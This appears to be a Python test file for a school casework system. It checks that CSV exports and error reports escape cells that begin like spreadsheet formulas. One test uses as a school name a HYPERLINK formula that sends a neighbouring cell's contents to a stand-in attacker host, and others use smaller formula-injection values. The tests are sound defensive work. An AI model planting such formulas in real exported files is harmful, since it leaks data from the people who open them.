"""The CSV files people open in a spreadsheet never carry a formula a name smuggled in."""

import csv
import io
from datetime import date

import pytest

from casework.packregister import RegisterRow, register_csv
from casework.spreadsheet import text_cell
from supportfirst.importing import error_report


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_shown_as_text(start: str) -> None:
    assert text_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


def test_an_ordinary_cell_is_unchanged() -> None:
    assert text_cell("St Mary's C of E Primary") == "St Mary's C of E Primary"


def test_the_registers_school_name_cannot_run_as_a_formula() -> None:
    row = RegisterRow(
        day=date(2025, 3, 3),
        session="AM",
        code="O",
        meaning="Unauthorised absence",
        school_urn="100001",
        school='=HYPERLINK("http://evil.example/?"&A2,"open")',
        stands=True,
        counted=True,
        covers=("threshold window",),
    )
    [header, line] = list(csv.reader(io.StringIO(register_csv("A123456789012", [row]).decode())))
    cells = dict(zip(header, line, strict=True))
    assert cells["school"].startswith("'=")
    assert line[:5] == ["A123456789012", "100001", "2025-03-03", "AM", "O"]


def test_an_errors_report_quotes_a_hostile_value_as_text() -> None:
    report = error_report("pupils.csv", ["pupils.csv:3: surname: '@SUM(1)' is too long"])
    [_, row] = list(csv.reader(io.StringIO(report.decode())))
    assert row[:3] == ["pupils.csv", "3", "surname"]
    assert not row[3].startswith(("=", "+", "-", "@"))
    bad = error_report("=cmd.csv", ["=cmd.csv:2: -x: +bad"])
    [_, row] = list(csv.reader(io.StringIO(bad.decode())))
    assert row == ["'=cmd.csv", "2", "'-x", "'+bad"]
